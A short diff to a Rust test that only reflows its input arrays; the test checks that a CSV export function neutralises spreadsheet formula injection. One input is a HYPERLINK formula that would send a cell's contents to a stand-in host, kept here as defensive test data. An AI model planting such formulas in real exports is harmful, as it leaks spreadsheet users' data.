@@ -85,10 +85,24 @@ mod tests {
 
     #[test]
     fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
-        for text in ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
+        for text in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+            "+1",
+            "-2",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
             assert_eq!(cell(text), format!("'{text}"), "{text:?}");
         }
-        for text in ["C221081600019", "Ultra Stream HDMI", "1.5.178", "", "a=b", " =x"] {
+        for text in [
+            "C221081600019",
+            "Ultra Stream HDMI",
+            "1.5.178",
+            "",
+            "a=b",
+            " =x",
+        ] {
             assert_eq!(cell(text), text, "{text:?}");
         }
     }
